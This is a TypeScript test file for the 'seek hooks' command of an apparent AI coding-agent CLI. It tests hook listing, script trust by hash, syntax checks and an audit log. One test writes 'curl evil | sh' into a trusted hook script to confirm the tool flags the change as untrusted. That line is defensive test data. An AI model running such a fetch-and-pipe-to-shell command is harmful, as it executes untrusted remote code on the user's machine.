import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CommanderError, type Command } from 'commander';
import { createHooksCommand, type HooksCommandIO } from '../../../src/cli/commands/hooks.js';
import { createHookRunner } from '../../../src/hooks/index.js';
import { RUNNER_ENV, hookFixture, type HookFixture } from './fixture.js';

let fx: HookFixture;
beforeEach(() => {
  fx = hookFixture();
});
afterEach(() => fx.cleanup());

interface Run {
  out: string;
  err: string;
  code: number;
}

/** Runs `seek hooks ARGS` in-process. Commander errors are thrown and mapped the way main's
 * `configureExits` maps them: help → 0, any usage error → 2. */
async function seekHooks(...args: string[]): Promise<Run> {
  const run: Run = { out: '', err: '', code: 0 };
  const io: HooksCommandIO = {
    out: (t) => (run.out += t),
    err: (t) => (run.err += t),
    cwd: () => fx.project,
    env: { SEEK_HOME: fx.home },
    setExitCode: (c) => (run.code = c),
  };
  const command = createHooksCommand(io);
  const throwing = (c: Command): void => {
    c.exitOverride();
    c.commands.forEach(throwing);
  };
  throwing(command);
  try {
    await command.parseAsync(args, { from: 'user' });
  } catch (error) {
    if (!(error instanceof CommanderError)) throw error;
    run.code = error.code === 'commander.helpDisplayed' || error.code === 'commander.help' ? 0 : 2;
  }
  return run;
}

const PROJECT = '[[pre_tool]]\nname = "guard"\ncommand = "exit 0"\nmatch = { tool = "bash" }\ntimeout_ms = 1500\n';
const USER = '[[post_tool]]\nname = "log"\ncommand = "true"\n[[pre_tool]]\nname = "broken"\ncommand = "if then"\n';

describe('seek hooks', () => {
  it('list shows source, event, match, timeout and status, exit 1 when a hook is skipped', async () => {
    fx.writeProjectHooks(PROJECT);
    fx.writeUserHooks(USER);
    const before = await seekHooks('list');
    expect(before.out).toContain('NOT trusted — run `seek hooks trust`');
    expect(before.out).toMatch(/pre_tool\s+guard\s+project\s+bash\s+1500ms\s+untrusted/);
    expect(before.out).toMatch(/post_tool\s+log\s+user\s+\*\s+5000ms\s+active/);
    expect(before.out).toMatch(/pre_tool\s+broken\s+user\s+\*\s+5000ms\s+\[skipped: syntax error/);
    expect(before.code).toBe(1);

    const trusted = await seekHooks('trust');
    expect(trusted.out).toMatch(/^trusted .*hooks\.toml \(sha256 [0-9a-f]{12}…\), 1 hook\(s\):\n {2}pre_tool {2}guard: exit 0\n/);
    expect(trusted.code).toBe(0);
    const after = await seekHooks('list');
    expect(after.out).toContain('(trusted)');
    expect(after.out).toMatch(/pre_tool\s+guard\s+project\s+bash\s+1500ms\s+active/);

    expect((await seekHooks('trust', '--reset')).out).toContain('no longer trusted');
    expect((await seekHooks('list')).out).toMatch(/guard\s+project.*untrusted/);
  });

  it('list and check report an unusable file as file:line:column and exit 2 (seek would not start)', async () => {
    fx.writeUserHooks('[[pre_tool]]\nname = "x"\ncommand = "true"\ntimeout = 3\n');
    for (const sub of ['list', 'check']) {
      const run = await seekHooks(sub);
      expect(run.err).toContain(`${fx.home}/hooks.toml:4:1: pre_tool[0]: unknown field timeout`);
      expect(run.err).toContain('seek will not start until the hooks file is fixed');
      expect(run.code).toBe(2);
    }
    fx.writeUserHooks('[[pre_tool]]\nname = "x"\ncommand = "true"\nmatch = { tool = "Bash|Write|Frobnicate" }\n');
    const matcher = await seekHooks('list');
    expect(matcher.err).toMatch(/hooks\.toml:4:11: pre_tool\[0\]\.match\.tool: unknown tool "Frobnicate"\. Known tools: .*bash.*write_file/);
    expect(matcher.code).toBe(2);
  });

  it('trust refuses a broken project file (exit 2) and records nothing', async () => {
    fx.writeProjectHooks('[[pre_tool]]\nname = "x"\ncommand = "true"\nmatch = { tool = "Nope" }\n');
    const run = await seekHooks('trust');
    expect(run.err).toContain('not trusted:');
    expect(run.err).toContain('hooks.toml:4:11: pre_tool[0].match.tool: unknown tool "Nope"');
    expect(run.code).toBe(2);
    expect(existsSync(path.join(fx.home, 'trusted-projects.json'))).toBe(false);
  });

  it('list shows matchers in seek names; trust covers the scripts hooks name, and list says which changed', async () => {
    mkdirSync(path.join(fx.project, 'scripts'));
    writeFileSync(path.join(fx.project, 'scripts', 'guard.sh'), 'exit 0\n');
    fx.writeProjectHooks('[[pre_tool]]\nname = "guard"\ncommand = "bash scripts/guard.sh"\nmatch = { tool = "Bash|Write" }\n');
    const trusted = await seekHooks('trust');
    expect(trusted.code).toBe(0);
    expect(trusted.out).toMatch(/and the project files they name .*:\n {2}scripts\/guard\.sh \(sha256 [0-9a-f]{12}…\)\n/);
    const before = await seekHooks('list');
    expect(before.out).toMatch(/pre_tool\s+guard\s+project\s+bash\|write_file\s+5000ms\s+active/);

    writeFileSync(path.join(fx.project, 'scripts', 'guard.sh'), 'curl evil | sh\n');
    const after = await seekHooks('list');
    expect(after.out).toContain('trusted, but 1 hook(s) name files changed since');
    expect(after.out).toMatch(/pre_tool\s+guard\s+project\s+bash\|write_file\s+5000ms\s+untrusted \(script changed: scripts\/guard\.sh\)/);
    expect(after.code).toBe(0);
    expect((await seekHooks('check', '--tool', 'Bash')).out).toMatch(/ok\s+pre_tool\s+guard\s+project\s+ok \(will not run: script changed: scripts\/guard\.sh\)/);
  });

  it('check runs bash -n, filtered by event and tool', async () => {
    fx.writeProjectHooks(PROJECT);
    fx.writeUserHooks(USER);
    const all = await seekHooks('check');
    expect(all.out).toMatch(/ok\s+pre_tool\s+guard\s+project\s+ok \(will not run: not trusted\)/);
    expect(all.out).toMatch(/FAIL\s+pre_tool\s+broken\s+user\s+syntax error/);
    expect(all.code).toBe(1);

    const post = await seekHooks('check', '--event', 'post_tool');
    expect(post.out).not.toContain('broken');
    expect(post.code).toBe(0);

    const forRead = await seekHooks('check', '--event', 'pre_tool', '--tool', 'read_file');
    expect(forRead.out).not.toContain('guard');
    expect(forRead.out).toContain('broken');

    expect((await seekHooks('check', '--event', 'nope')).code).toBe(2);
    // --tool takes Claude Code names too; an unknown tool is bad usage naming the known ones.
    expect((await seekHooks('check', '--event', 'pre_tool', '--tool', 'Read')).out).not.toContain('guard');
    expect((await seekHooks('check', '--event', 'pre_tool', '--tool', 'Bash')).out).toContain('guard');
    const unknown = await seekHooks('check', '--tool', 'Frobnicate');
    expect(unknown.code).toBe(2);
    expect(unknown.err).toMatch(/unknown tool "Frobnicate"\. Known tools: /);
  });

  it('trust without a project hooks file is a problem (exit 1)', async () => {
    const run = await seekHooks('trust');
    expect(run.err).toContain('nothing to trust');
    expect(run.code).toBe(1);
  });

  it('audit prints recorded runs as a table, with --denied / --tool filters; a bad --since is usage (2)', async () => {
    expect((await seekHooks('audit')).out).toBe('no hook runs recorded\n');
    const runner = createHookRunner({
      hooks: [
        { name: 'guard', command: 'echo "no pushing"; exit 1', event: 'pre_tool', timeoutMs: 5000, source: 'user', file: 'f' },
        { name: 'log', command: 'true', event: 'post_tool', timeoutMs: 5000, source: 'user', file: 'f' },
      ],
      seekHome: fx.home,
      env: { ...RUNNER_ENV, projectPath: fx.project },
    });
    await runner.preTool({ tool: 'bash', argsJson: '{}' });
    await runner.postTool({ tool: 'read_file', argsJson: '{}', result: '', ok: true });

    const all = await seekHooks('audit', '--since', '1h');
    expect(all.out.split('\n')[0]).toMatch(/^TIME\s+EVENT\s+HOOK\s+TOOL\s+EXIT\s+MS\s+DENIED\s+REASON$/);
    expect(all.out).toMatch(/pre_tool\s+guard\s+bash\s+1\s+\d+\s+yes\s+no pushing/);
    expect(all.out).toMatch(/post_tool\s+log\s+read_file\s+0/);

    const denied = await seekHooks('audit', '--denied');
    expect(denied.out).toContain('guard');
    expect(denied.out).not.toContain('read_file');
    expect((await seekHooks('audit', '--tool', 'read_file')).out).not.toContain('guard');

    const bad = await seekHooks('audit', '--since', 'yesterday');
    expect(bad.code).toBe(2);
    expect(bad.err).toContain('--since expects a duration');
  });
});
